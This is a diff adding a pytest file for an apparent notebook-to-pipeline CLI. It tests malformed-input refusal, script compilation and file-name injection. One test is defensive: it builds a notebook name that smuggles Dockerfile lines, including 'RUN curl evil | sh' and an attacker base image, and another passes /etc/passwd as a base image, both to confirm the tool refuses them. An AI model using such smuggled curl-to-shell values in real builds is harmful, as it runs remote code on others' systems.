@@ -1,0 +1,259 @@
+"""Hostile and malformed input through the real CLI: one line, exit 2, nothing written.
+
+Also the generated script itself: it always compiles, CR-only cells keep their lines, form
+feeds keep their indentation, non-finite defaults work, and a hostile notebook file name changes
+no Dockerfile instruction and no commit trailer. The reader is fuzzed with hypothesis.
+"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.helpers import (
+    assert_ok,
+    dsops,
+    error_line,
+    git,
+    init_repo,
+    make_notebook,
+    run_python,
+    tree_snapshot,
+)
+from tests.test_escape import dockerfile_instructions, recipe_for
+
+KERNELSPEC = {"name": "python3", "display_name": "Python 3", "language": "python"}
+
+
+def raw_notebook(path: Path, cells: list[Any], metadata: Any = None) -> Path:
+    """A notebook written as raw JSON, so shapes nbformat would refuse can be made."""
+    nb = {
+        "nbformat": 4,
+        "nbformat_minor": 5,
+        "metadata": {"kernelspec": dict(KERNELSPEC)} if metadata is None else metadata,
+        "cells": [
+            c if isinstance(c, dict) else {"cell_type": "code", "metadata": {}, "source": c}
+            for c in cells
+        ],
+    }
+    path.write_text(json.dumps(nb))  # ASCII: lone surrogates are written as \ud800 escapes
+    return path
+
+
+def code(source: Any, **metadata: Any) -> dict[str, Any]:
+    return {"cell_type": "code", "metadata": metadata, "source": source, "outputs": []}
+
+
+def refused(tmp_path: Path, *args: str | Path) -> str:
+    """Run dsops in a Git repository; assert one clean line, exit 2, no file, commit or tag."""
+    repo = tmp_path
+    before, head = tree_snapshot(repo), git(repo, "rev-parse", "HEAD")
+    line = error_line(dsops(*args, cwd=repo))
+    assert tree_snapshot(repo) == before, "a refused command wrote files"
+    assert git(repo, "rev-parse", "HEAD") == head and git(repo, "tag") == ""
+    return line
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    init_repo(tmp_path)
+    return tmp_path
+
+
+def commit_all(repo: Path) -> None:
+    git(repo, "add", "-A")
+    git(repo, "commit", "-q", "-m", "notebooks")
+
+
+# --- one line, never a traceback ------------------------------------------------------------------
+MALFORMED: dict[str, tuple[list[Any], Any]] = {
+    "metadata as a list": ([{"cell_type": "code", "metadata": [], "source": "x = 1"}], None),
+    "metadata null": ([{"cell_type": "code", "metadata": None, "source": "x = 1"}], None),
+    "tags null": ([code("x = 1", tags=None)], None),
+    "tags hold a number": ([code("x = 1", tags=["skip", 3])], None),
+    "source as a list of ints": ([code([1, 2])], None),
+    "source null": ([code(None)], None),
+    "kernelspec null": ([code("x = 1")], {"kernelspec": None}),
+    "notebook metadata null": ([code("x = 1")], "null"),
+    "language a number": ([code("x = 1")], {"kernelspec": {"language": 3}}),
+    "lone surrogate in a cell": ([code("label = '\ud800'\nprint(label)")], None),
+    "lone surrogate in a tag": ([code("x = 1", tags=["step:\udcff"])], None),
+    "NUL in a cell": ([code("x = 1\x00")], None),
+    "integer over 4300 digits": ([code("x = " + "9" * 5000)], None),
+    "3000-term expression": ([code("x = " + " + ".join(["1"] * 3000))], None),
+    "500-term expression": ([code("x = " + " + ".join(["1"] * 500))], None),
+    "parameter over 4300 digits": ([code("x = 0x" + "f" * 5000, tags=["parameters"])], None),
+    "parameter nested 200 deep": ([code(f"x = {'[' * 199}{']' * 199}", tags=["parameters"])], None),
+}
+
+
+SAMPLE = ["metadata null", "lone surrogate in a cell", "500-term expression"]
+
+
+def malformed(repo: Path, case: str) -> Path:
+    cells, metadata = MALFORMED[case]
+    notebook = raw_notebook(repo / "nb.ipynb", cells, metadata)
+    if metadata == "null":
+        notebook.write_text(notebook.read_text().replace('"metadata": "null"', '"metadata": null'))
+    commit_all(repo)
+    return notebook
+
+
+@pytest.mark.parametrize("case", MALFORMED, ids=list(MALFORMED))
+def test_malformed_notebooks_are_one_line(case: str, repo: Path) -> None:
+    assert "nb.ipynb" in refused(repo, "convert", malformed(repo, case))
+
+
+@pytest.mark.parametrize("case", SAMPLE)
+@pytest.mark.parametrize("command", ["commit", "steps", "run"])
+def test_every_command_refuses_them_the_same_way(case: str, command: str, repo: Path) -> None:
+    assert "nb.ipynb" in refused(repo, command, malformed(repo, case))
+
+
+def test_deeply_nested_json_is_one_line(repo: Path) -> None:
+    notebook = repo / "deep.ipynb"
+    nested = "[" * 100_000 + "]" * 100_000
+    notebook.write_text(
+        '{"nbformat": 4, "metadata": {}, "cells": [{"cell_type": "code", '
+        f'"metadata": {{"x": {nested}}}, "source": "x = 1"}}]}}'
+    )
+    commit_all(repo)
+    assert "too deeply" in refused(repo, "convert", notebook)
+
+
+def test_names_too_long_for_a_file_are_one_line(repo: Path) -> None:
+    long_notebook = make_notebook(repo / ("a" * 243 + ".ipynb"), ["x = 1"])
+    assert len(long_notebook.name) == 249
+    short = make_notebook(repo / "nb.ipynb", ["x = 1"])
+    commit_all(repo)
+    assert "--name" in refused(repo, "convert", long_notebook)
+    refused(repo, "commit", long_notebook)
+    assert "at most" in refused(repo, "convert", short, "--name", "b" * 300)
+    refused(repo, "commit", short, "--name", "b" * 300)
+
+
+def test_a_base_image_that_is_no_image_is_refused_before_committing(repo: Path) -> None:
+    notebook = make_notebook(repo / "nb.ipynb", ["x = 1\nprint(x)"])
+    not_an_image = repo / "passwd"
+    not_an_image.write_text("root:x:0:0:root:/root:/bin/bash\n")
+    commit_all(repo)
+    args = ("package", notebook, "--reproducible", "--base-image", not_an_image)
+    line = refused(repo, *args, "--output", "x.tar")
+    assert "passwd" in line and "image" in line
+    refused(
+        repo,
+        "package",
+        notebook,
+        "--reproducible",
+        "--base-image",
+        "/etc/passwd",
+        "--output",
+        "x.tar",
+    )
+
+
+# --- generated scripts always compile ------------------------------------------------------------
+UNCOMPILABLE = {
+    "top-level await": "import asyncio\nawait asyncio.sleep(0)",
+    "top-level return": "x = 1\nreturn x",
+    "top-level yield": "yield 1",
+    "top-level yield from": "yield from [1]",
+    "async for at top level": "async for x in y:\n    pass",
+    "star import beside a statement": "x = 1; from os.path import *\nprint(join('a'))",
+    "star import in a block": "if True:\n    from os.path import *\nprint(join('a'))",
+}
+
+
+@pytest.mark.parametrize("case", UNCOMPILABLE, ids=list(UNCOMPILABLE))
+def test_cells_that_cannot_become_a_script_name_the_cell(case: str, repo: Path) -> None:
+    notebook = raw_notebook(repo / "nb.ipynb", [code("a = 1"), code(UNCOMPILABLE[case])])
+    commit_all(repo)
+    assert "cell 2" in refused(repo, "convert", notebook)
+    assert "cell 2" in refused(repo, "commit", notebook)  # never a commit of a broken script
+
+
+def test_awaits_and_returns_inside_functions_are_fine(repo: Path) -> None:
+    source = (
+        "import asyncio\n"
+        "async def twice(x):\n    await asyncio.sleep(0)\n    return [i async for i in gen(x)]\n"
+        "async def gen(x):\n    yield x\n    yield x\n"
+        "def first():\n    return (lambda: (yield))\n"
+        "print(asyncio.run(twice(3)))"
+    )
+    notebook = raw_notebook(repo / "nb.ipynb", [code(source)])
+    assert_ok(dsops("convert", notebook, "--out", "out", cwd=repo))
+    done = assert_ok(run_python(repo / "out" / "nb.py", cwd=repo))
+    assert done.stdout.strip() == "[3, 3]"
+
+
+def test_non_finite_parameter_defaults_run(repo: Path) -> None:
+    notebook = raw_notebook(
+        repo / "nb.ipynb",
+        [
+            code("alpha = 1e999\nbeta = [-1e999]\ngamma = 1e999j", tags=["parameters"]),
+            code("print(alpha, beta, gamma)"),
+        ],
+    )
+    assert_ok(dsops("convert", notebook, "--out", "out", cwd=repo))
+    assert assert_ok(run_python(repo / "out" / "nb.py", cwd=repo)).stdout.split() == [
+        "inf",
+        "[-inf]",
+        "infj",
+    ]
+    done = assert_ok(run_python(repo / "out" / "nb.py", "--alpha", "2.5", cwd=repo))
+    assert done.stdout.split()[0] == "2.5"
+
+
+def test_a_form_feed_at_line_start_keeps_its_indentation(repo: Path) -> None:
+    source = "\fx = 1\nif x:\n\f    print('fed', x)\n  \f    print('reset')\n"
+    notebook = raw_notebook(repo / "nb.ipynb", [code(source)])
+    assert_ok(dsops("convert", notebook, "--out", "out", cwd=repo))
+    assert assert_ok(run_python(repo / "out" / "nb.py", cwd=repo)).stdout == "fed 1\nreset\n"
+
+
+@pytest.mark.parametrize("ending", ["\r", "\r\n"], ids=["CR", "CRLF"])
+def test_cr_line_endings_keep_every_statement_in_its_step(ending: str, repo: Path) -> None:
+    source = ending.join(["import os", "x = 1", "print('RAN', x)", "def f():", "    return x", ""])
+    notebook = raw_notebook(repo / "nb.ipynb", [code(source), code("print('after', f())")])
+    assert_ok(dsops("convert", notebook, "--out", "out", cwd=repo))
+    script = repo / "out" / "nb.py"
+    assert "\r" not in script.read_text()
+    helped = assert_ok(run_python(script, "--help", cwd=repo))
+    assert "RAN" not in helped.stdout
+    imported = assert_ok(run_python("-c", "import nb", cwd=repo / "out"))
+    assert imported.stdout == ""
+    assert assert_ok(run_python(script, cwd=repo)).stdout == "RAN 1\nafter 1\n"
+
+
+# --- injection through the notebook file name -----------------------------------------------------
+def test_a_newline_in_the_notebook_name_injects_nothing(repo: Path) -> None:
+    name = "wine\nFROM attacker/base:1\nRUN curl evil | sh\n# .ipynb"
+    notebook = make_notebook(repo / name, ["x = 1\nprint(x)"])
+    commit_all(repo)
+    done = assert_ok(dsops("commit", notebook, "--name", "wine", "--json", cwd=repo))
+    version = json.loads(done.stdout)
+    package = repo / "pipelines" / "wine"
+    recipe = (package / "Dockerfile").read_text()
+    expected = dockerfile_instructions(recipe_for("wine.ipynb"))
+    base = dict(dockerfile_instructions(recipe))["FROM"]
+    assert [k for k, _ in dockerfile_instructions(recipe)] == [k for k, _ in expected]
+    assert "attacker" not in base and recipe.count("\nFROM ") == 1
+    assert json.loads((package / "pipeline.json").read_text())["notebook"] == name
+    message = git(repo, "log", "-1", "--format=%B")
+    assert message.split("\n")[0] == "dsops: wine v1"
+    parsed = subprocess.run(
+        ["git", "interpret-trailers", "--parse"],
+        input=message,
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.splitlines()
+    assert [line.split(":")[0] for line in parsed] == ["notebook", "content"]
+    assert json.loads(parsed[0].split(": ", 1)[1]) == name
+    tag = git(repo, "tag", "-l", "--format=%(contents:subject)", "dsops/wine/v1")
+    assert tag == "dsops: wine v1" and version["created"] is True
